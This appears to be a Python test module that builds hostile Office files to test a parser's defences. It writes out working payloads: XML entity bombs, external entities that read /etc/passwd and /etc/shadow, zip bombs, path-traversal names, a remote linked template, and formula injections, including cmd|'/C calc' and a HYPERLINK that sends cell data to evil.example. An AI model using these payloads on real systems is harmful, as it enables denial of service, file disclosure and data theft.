"""Hostile Office files: bombs, lies of the archive, entities, tables without end, formulas."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Final

from tests.doubles.hostile_kinds import EVIL, MEGABYTE, Kind, Size
from tests.doubles.office_files import limits_xlsx, product_training_pptx, transfer_standard_docx

_BASES: dict[str, Callable[[], bytes]] = {"docx": transfer_standard_docx, "xlsx": limits_xlsx, "pptx": product_training_pptx}
_MADE: dict[str, bytes] = {}
_MAIN: Final = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml", "pptx": "ppt/slides/slide1.xml"}
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def changed(kind: str, members: Mapping[str, bytes | str]) -> bytes:
    """Return a sound Office file with members replaced or added."""
    if kind not in _MADE:
        _MADE[kind] = _BASES[kind]()
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_MADE[kind])) as base, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in base.namelist():
            if name not in members:
                archive.writestr(name, base.read(name))
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def _document(body: str, *, entities: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>{entities}<w:document {_W}><w:body>{body}</w:body></w:document>'


def _laughs(size: Size) -> str:
    levels = size.dice.randint(9, 14)
    lines = ['<!ENTITY l0 "ha">'] + [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels)]
    return f"<!DOCTYPE d [{''.join(lines)}]>"


def _entity_bomb(size: Size) -> bytes:
    return changed("docx", {_MAIN["docx"]: _document("<w:p><w:r><w:t>&l8;</w:t></w:r></w:p>", entities=_laughs(size))})


def _external_entity(size: Size) -> bytes:
    place = size.dice.choice(["file:///etc/passwd", "file:///etc/shadow", "http://127.0.0.1:9/x"])
    kind = size.dice.choice(["docx", "pptx", "xlsx"])
    declared = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{place}">]>'
    body = _document("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", entities=declared)
    return changed(kind, {_MAIN[kind]: body})


def _hidden_entities(size: Size) -> bytes:
    """Hide the declaration in UTF-16, where a search for its bytes does not see it."""
    written = _document("<w:p><w:r><w:t>&l8;</w:t></w:r></w:p>", entities=_laughs(size)).replace("UTF-8", "UTF-16")
    return changed("docx", {_MAIN["docx"]: written.encode("utf-16")})


def _ratio_bomb(size: Size) -> bytes:
    return changed("docx", {"word/media/image1.png": bytes(size.of(190 * MEGABYTE, 40 * MEGABYTE))})


def _size_bomb(size: Size) -> bytes:
    """Unpack to more than 200 MB by many members, each below any limit for one."""
    return changed("pptx", {f"ppt/media/image{n}.png": bytes(10 * MEGABYTE) for n in range(22)})


def _nested_zip(size: Size) -> bytes:
    inner = bytes(size.of(20 * MEGABYTE, 4 * MEGABYTE))
    for depth in range(size.dice.randint(3, 6)):
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
            for copy in range(8):
                archive.writestr(f"{depth}-{copy}.zip", inner)
        inner = target.getvalue()
    return changed("docx", {"word/embeddings/inner.zip": inner})


def _lying_sizes(size: Size) -> bytes:
    """Declare a few bytes for a member that unpacks to many, in both places where an archive says it."""
    bomb = changed("docx", {"word/media/lie.bin": bytes(size.of(150 * MEGABYTE, 30 * MEGABYTE))})
    raw, true = bytearray(bomb), struct.pack("<I", size.of(150 * MEGABYTE, 30 * MEGABYTE))
    place = raw.find(true)
    while place >= 0:
        raw[place : place + 4] = struct.pack("<I", size.dice.randint(1, 999))
        place = raw.find(true, place + 4)
    return bytes(raw)


def _many_members(size: Size) -> bytes:
    return changed("xlsx", {f"xl/media/{n}.xml": "<a/>" for n in range(size.of(30_000, 2_100))})


def _traversal(size: Size) -> bytes:
    above = "../" * size.dice.randint(1, 9)
    names = [f"{above}tmp/evil.xml", "/etc/cron.d/evil", f"word/{above}evil.xml", "C:\\evil.xml", "word\\..\\..\\evil"]
    return changed("docx", dict.fromkeys(names, "<evil/>"))


def _zip64(size: Size) -> bytes:
    """Say 0xFFFFFFFF for a size, which sends the reader to a field that is not there, or lies."""
    raw = bytearray(changed("xlsx", {"xl/extra.bin": b"x" * 1000}))
    place = raw.rfind(b"PK\x01\x02")
    raw[place + 20 : place + 28] = b"\xff" * 8
    if size.dice.random() < 0.5:
        raw += b"\0" * 10
    return bytes(raw)


def _overlapping(size: Size) -> bytes:
    """Let hundreds of directory entries point at the same packed bytes."""
    packed = zlib.compress(bytes(size.of(MEGABYTE, 200_000)), 9)[2:-4]
    length, check = size.of(MEGABYTE, 200_000), zlib.crc32(bytes(size.of(MEGABYTE, 200_000)))
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, check, len(packed), length, 5, 0) + b"a.xml" + packed
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, check, len(packed), length, 5, 0, 0, 0, 0, 0, 0)
    directory = (entry + b"a.xml") * 900
    return local + directory + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 900, 900, len(directory), len(local), 0)


def _huge_table(size: Size) -> bytes:
    row = f"<w:tr>{'<w:tc><w:p><w:r><w:t>cell</w:t></w:r></w:p></w:tc>' * 20}</w:tr>"
    return changed("docx", {_MAIN["docx"]: _document(f"<w:tbl>{row * size.of(30_000, 2_000)}</w:tbl>")})


def _incompressible_table(size: Size) -> bytes:
    """A table that stays below the ratio of a bomb, as a real one would."""
    rows = []
    for _ in range(size.of(40_000, 1_000)):
        cells = "".join(f"<w:tc><w:p><w:r><w:t>{size.dice.getrandbits(220):x}</w:t></w:r></w:p></w:tc>" for _ in range(5))
        rows.append(f"<w:tr>{cells}</w:tr>")
    return changed("docx", {_MAIN["docx"]: _document(f"<w:tbl>{''.join(rows)}</w:tbl>")})


def _deep_docx(size: Size) -> bytes:
    depth = size.of(100_000, 3_000)
    opened, closed = size.dice.choice(
        [("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"), ("<w:ins>", "</w:ins>"), ("<w:sdt>", "</w:sdt>")]
    )
    noise = "".join(f"<w:p><w:r><w:t>{size.dice.getrandbits(200):x}</w:t></w:r></w:p>" for _ in range(depth // 10))
    return changed("docx", {_MAIN["docx"]: _document(f"{opened * depth}<w:p/>{closed * depth}{noise}")})


def _linked_template(size: Size) -> bytes:
    place = size.dice.choice(["http://127.0.0.1:9/evil.dotm", "file:///etc/passwd"])
    linked = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" TargetMode="External"'
        f' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{place}"/></Relationships>'
    )
    return changed("docx", {"word/_rels/settings.xml.rels": linked, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + EVIL.encode()})


def _sheet(rows: str, dimension: str = "A1") -> str:
    return f'<?xml version="1.0"?><worksheet {_S}><dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'


def _million_rows(size: Size) -> bytes:
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n * 7919 % 10007}</v></c></row>' for n in range(1, size.of(1_000_000, 210_000)))
    return changed("xlsx", {_MAIN["xlsx"]: _sheet(rows)})


def _lying_dimension(size: Size) -> bytes:
    dimension = size.dice.choice(["A1:XFD1048576", "A1:ZZZZ99999999", "XFD1048576:A1", "A1:A", ""])
    far = size.dice.choice(
        ['<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>', '<row r="99999999"><c r="ZZZZ9"><v>2</v></c></row>', ""]
    )
    return changed("xlsx", {_MAIN["xlsx"]: _sheet(f'<row r="1"><c r="A1"><v>1</v></c></row>{far}', dimension)})


def _shared_strings(size: Size) -> bytes:
    """One text of megabytes, to which every cell refers."""
    noise = "".join(f"{size.dice.getrandbits(256):x} " for _ in range(size.of(64_000, 3_000)))
    shared = f'<?xml version="1.0"?><sst {_S} count="1" uniqueCount="1"><si><t>{noise}</t></si></sst>'
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, size.of(20_000, 2_000) + 1))
    others = {f"xl/worksheets/sheet{n}.xml": _sheet("") for n in (2, 3)}
    return changed("xlsx", {_MAIN["xlsx"]: _sheet(rows), "xl/sharedStrings.xml": shared, **others})


def _formulas(size: Size) -> bytes:
    written = size.dice.sample(
        ["cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example/?"&amp;A1)', 'WEBSERVICE("http://127.0.0.1:9")', 'EXEC("id")', "A1"],
        3,
    )
    rows = "".join(f'<row r="{n}"><c r="A{n}"><f>{formula}</f><v>12</v></c></row>' for n, formula in enumerate(written, 1))
    return changed("xlsx", {_MAIN["xlsx"]: _sheet(rows)})


def _many_slides(size: Size) -> bytes:
    """Thousands of slides in the directory, all of them the same file or none."""
    base = changed("pptx", {})
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        deck = archive.read("ppt/presentation.xml").decode()
        relations = archive.read("ppt/_rels/presentation.xml.rels").decode()
    count = size.of(1_900, 300)
    ids = "".join(f'<p:sldId id="{1000 + n}" r:id="rIdX{n}"/>' for n in range(count))
    slide_type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/slide"
    added = "".join(f'<Relationship Id="rIdX{n}" Type="{slide_type}" Target="slides/slide1.xml"/>' for n in range(count))
    return changed(
        "pptx",
        {
            "ppt/presentation.xml": deck.replace("</p:sldIdLst>", f"{ids}</p:sldIdLst>"),
            "ppt/_rels/presentation.xml.rels": relations.replace("</Relationships>", f"{added}</Relationships>"),
        },
    )


def _torn(size: Size) -> bytes:
    raw = changed(size.dice.choice(["docx", "xlsx", "pptx"]), {})
    return raw[: int(len(raw) * size.dice.uniform(0.2, 0.95))]


def _flipped(size: Size) -> bytes:
    raw = bytearray(changed(size.dice.choice(["docx", "xlsx", "pptx"]), {}))
    for _ in range(size.dice.randint(1, 40)):
        raw[size.dice.randrange(len(raw))] ^= 1 << size.dice.randrange(8)
    return bytes(raw)


def _no_xml(size: Size) -> bytes:
    kind = size.dice.choice(["docx", "xlsx", "pptx"])
    return changed(kind, {_MAIN[kind]: size.dice.choice(["", "<", "<a>", "\0" * 50, "not xml", "<a/><b/>"])})


KINDS = (
    Kind("docx with an entity bomb", ".docx", "refused", _entity_bomb),
    Kind("office file with an external entity", ".docx", "refused", _external_entity),
    Kind("docx with an entity bomb in utf-16", ".docx", "refused", _hidden_entities),
    Kind("docx that unpacks to a thousand times its size", ".docx", "refused", _ratio_bomb),
    Kind("pptx that unpacks to more than the limit", ".pptx", "refused", _size_bomb),
    Kind("docx with archives in archives", ".docx", "either", _nested_zip),
    Kind("docx whose archive lies about sizes", ".docx", "refused", _lying_sizes),
    Kind("xlsx of thousands of parts", ".xlsx", "refused", _many_members),
    Kind("docx with names that lead out of the folder", ".docx", "either", _traversal),
    Kind("xlsx with false 64-bit sizes", ".xlsx", "either", _zip64),
    Kind("archive of entries over one another", ".docx", "refused", _overlapping),
    Kind("docx with a table without end", ".docx", "either", _huge_table),
    Kind("docx with a table of random cells", ".docx", "either", _incompressible_table),
    Kind("docx nested without end", ".docx", "either", _deep_docx),
    Kind("docx with a template from elsewhere and macros", ".docx", "either", _linked_template),
    Kind("xlsx of a million rows", ".xlsx", "refused", _million_rows),
    Kind("xlsx that lies about its dimension", ".xlsx", "either", _lying_dimension),
    Kind("xlsx whose cells share a text of megabytes", ".xlsx", "either", _shared_strings),
    Kind("xlsx with formulas that would run", ".xlsx", "read", _formulas),
    Kind("pptx of thousands of slides", ".pptx", "either", _many_slides),
    Kind("office file torn off", ".docx", "refused", _torn),
    Kind("office file with flipped bits", ".xlsx", "either", _flipped),
    Kind("office file whose main part is no xml", ".pptx", "refused", _no_xml),
)
